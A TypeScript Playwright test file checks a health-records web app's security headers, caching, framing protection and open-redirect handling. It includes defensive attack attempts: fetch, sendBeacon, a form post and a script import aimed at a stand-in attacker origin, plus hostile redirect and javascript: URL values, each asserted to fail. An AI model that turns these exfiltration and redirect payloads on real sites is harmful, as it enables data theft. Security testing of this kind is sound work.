import { parseConfig } from '#config/load.ts';
import { securityHeaders } from '#config/hosting.ts';
import { inlineScripts } from '#sandbox/host/index-page.ts';
import { expect, test } from './fixtures.ts';

const PAGES = [
  '/',
  '/patients',
  '/patients/p0001',
  '/launch',
  '/callback',
  '/access',
  '/redirect.html',
  '/config.json',
  '/no/such/page',
];

test.describe('the web host', () => {
  test('requirements 60, 61, 62, 63: sends the security headers with every page, asset and error', async ({
    request,
    sandbox,
    stage,
  }) => {
    const config = parseConfig(sandbox.appConfig());
    const html = await (await request.get('/')).text();
    const inline = inlineScripts(html);
    const asset = /src="(\/assets\/[^"]+)"/.exec(html)?.[1] ?? '';
    expect(asset).not.toBe('');
    const answers = [
      ...[...PAGES, asset, '/assets/gone-1.js', '/gone.txt'].map((path) => request.get(path)),
      request.post('/'),
      request.get(asset, { headers: { 'if-none-match': '"x"' } }),
    ];
    for (const answer of await Promise.all(answers)) {
      const { pathname } = new URL(answer.url());
      const what = `${answer.status()} ${pathname}`;
      const headers = answer.headers();
      const page = pathname === '/redirect.html' ? 'redirect' : 'app';
      for (const [name, value] of Object.entries(
        securityHeaders(config, { page, https: false, inline }),
      ))
        expect(headers[name.toLowerCase()], `${what}: ${name}`).toBe(value);
      const policy = headers['content-security-policy'] ?? '';
      expect(policy, what).toContain("default-src 'none'");
      expect(policy, what).toContain("form-action 'none'");
      expect(policy, what).toContain("require-trusted-types-for 'script'");
      expect(policy, what).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(policy, what).toMatch(/frame-ancestors 'self'/);
      expect(policy, what).not.toContain(stage.attacker.origin);
      expect(headers['referrer-policy'], what).toBe('no-referrer');
      expect(headers['x-content-type-options'], what).toBe('nosniff');
      expect(headers['permissions-policy'], what).toMatch(/camera=\(\)/);
      expect(headers['x-frame-options'] ?? '', what).not.toMatch(/deny/i);
      // The redirect page must reach the window that opened it.
      const opener = headers['cross-origin-opener-policy'];
      if (page === 'redirect') expect(opener, what).toBeUndefined();
      else expect(opener, what).toMatch(/^same-origin/);
      if (page === 'app') expect(policy, what).toContain(new URL(sandbox.fhir.baseUrl).origin);
    }
  });

  test('requirements 60, 61: the policy follows the configuration', async ({ request, stage }) => {
    const policy = async (config: unknown): Promise<string> => {
      stage.host.setConfig(config);
      return (await request.get('/')).headers()['content-security-policy'] ?? '';
    };
    const server = { id: 'a', label: 'A', auth: { type: 'open' } };
    const one = await policy({
      servers: [{ ...server, fhirBaseUrl: 'https://one.example/fhir' }],
      embedding: { frameAncestors: ['https://ehr.example'] },
    });
    expect(one).toContain("connect-src 'self' https://one.example;");
    expect(one).toContain("frame-ancestors 'self' https://ehr.example;");
    const two = await policy({
      servers: [{ ...server, fhirBaseUrl: 'https://two.example:8443/r4' }],
    });
    expect(two).toContain("connect-src 'self' https://two.example:8443;");
    expect(two).toContain("frame-ancestors 'self';");
    // An unreadable configuration allows no other origin.
    expect(await policy('{ no json')).toContain("connect-src 'self';");
  });

  test('requirements 60, 62: injected script could neither run nor reach another server', async ({
    attacker,
    stage,
    stranger: page,
  }) => {
    await page.goto(`${stage.appOrigin}/patients`);
    await expect(page.getByRole('button').first()).toBeVisible();
    const done = await page.evaluate(async (evil) => {
      // Code that the debugger evaluates may use eval at first, but not after a pause.
      await new Promise((resolve) => setTimeout(resolve, 50));
      const tried: Record<string, string> = {};
      const attempt = async (name: string, act: () => unknown): Promise<void> => {
        try {
          await act();
          tried[name] = 'done';
        } catch (error) {
          tried[name] = (error as Error).name;
        }
      };
      const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) {
          try {
            element.setAttribute(name, value);
          } catch {
            // Trusted Types refuse some of them at once.
          }
        }
        document.body.append(element);
        return element;
      };
      // oxlint-disable-next-line no-eval -- what must not work
      await attempt('eval', () => (0, eval)('1'));
      // oxlint-disable-next-line no-new-func, typescript/no-implied-eval -- as above
      await attempt('Function', () => new Function('return 1')());
      // Trusted Types must refuse markup in a string: no text of a patient comes near it.
      await attempt('markup', () => (document.createElement('div').innerHTML = '<b>x</b>'));
      await attempt('script', () => (document.createElement('script').text = 'x'));
      await attempt('fetch', () => fetch(`${evil}/fetch`));
      await attempt('import', () => import(`${evil}/import.js`));
      await attempt('worker', () => new Worker(`${evil}/worker.js`));
      add('img', { src: `${evil}/img` });
      add('iframe', { src: `${evil}/frame` });
      add('object', { data: `${evil}/object` });
      add('link', { rel: 'stylesheet', href: `${evil}/style.css` });
      add('base', { href: evil });
      add('button', { onclick: 'globalThis.__xss = 1' }).click();
      navigator.sendBeacon(`${evil}/beacon`, 'x');
      const form = add('form', { action: `${evil}/form`, method: 'post', target: '_blank' });
      (form as HTMLFormElement).submit();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { tried, xss: '__xss' in globalThis, base: document.baseURI };
    }, attacker.origin);
    expect(Object.values(done.tried), JSON.stringify(done.tried)).not.toContain('done');
    expect(done.xss).toBe(false);
    expect(new URL(done.base).origin).toBe(stage.appOrigin);
    expect(attacker.visits).toEqual([]);
  });

  test('requirement 63: over https, Strict-Transport-Security holds for a year', ({ sandbox }) => {
    const config = parseConfig(sandbox.appConfig());
    for (const page of ['app', 'redirect'] as const)
      expect(
        securityHeaders(config, { page, https: true, inline: [] })['Strict-Transport-Security'],
      ).toBe('max-age=31536000');
  });

  test('requirement 64: pages are not cached, and assets are cached for good', async ({
    request,
  }) => {
    const asset = /src="(\/assets\/[^"]+)"/.exec(await (await request.get('/')).text())?.[1] ?? '';
    for (const path of [
      '/',
      '/launch',
      '/callback',
      '/patients/p0001',
      '/config.json',
      '/redirect.html',
    ])
      expect((await request.get(path)).headers()['cache-control'], path).toMatch(
        /no-store|no-cache/,
      );
    expect((await request.get(asset)).headers()['cache-control']).toMatch(/immutable/);
  });

  test('requirement 66: serves no source map, dot folder or listing, and the app for deep links', async ({
    request,
  }) => {
    const page = await (await request.get('/')).text();
    const asset = /src="(\/assets\/[^"]+)"/.exec(page)?.[1] ?? '';
    for (const path of [`${asset}.map`, '/.vite/manifest.json', '/.git/config', '/assets/']) {
      const answer = await request.get(path);
      const text = await answer.text();
      expect(text.includes('"mappings"') || text.includes('"isEntry"'), path).toBe(false);
    }
    const deep = await request.get('/patients/p0001/labs');
    expect(deep.status()).toBe(200);
    expect(await deep.text()).toBe(page);
    expect((await request.get('/assets/missing.js')).status()).toBe(404);
  });

  test('requirement 61: another origin cannot frame the app', async ({
    attacker,
    guard,
    page,
    stage,
  }) => {
    guard.allowOrigin(attacker.origin);
    attacker.serve(
      '/frame',
      'text/html',
      `<!doctype html><title>x</title><iframe src="${stage.appOrigin}/"></iframe>`,
    );
    await page.goto(`${attacker.origin}/frame`);
    // The page that the browser shows in place of one that must not be framed.
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  });

  test('requirement 71: addresses that name another site do not lead there', async ({
    app,
    attacker,
    page,
    stage,
  }) => {
    const evil = attacker.origin;
    for (const path of [
      `/?returnTo=${evil}`,
      `/?redirect=//localhost:${new URL(evil).port}`,
      `/patients?next=${evil}`,
      `//localhost:${new URL(evil).port}/%2e%2e`,
      `/#/${evil}`,
      `/?url=javascript:globalThis.__xss=1`,
    ]) {
      await page.goto(stage.appOrigin + path);
      if (!path.startsWith('//')) await expect(app.shell.main, path).toBeVisible();
      expect(new URL(page.url()).origin).toBe(stage.appOrigin);
    }
    await page.goto('/?returnTo=' + evil);
    await app.signIn('open');
    expect(new URL(page.url()).origin).toBe(stage.appOrigin);
    expect(attacker.visits).toEqual([]);
  });
});
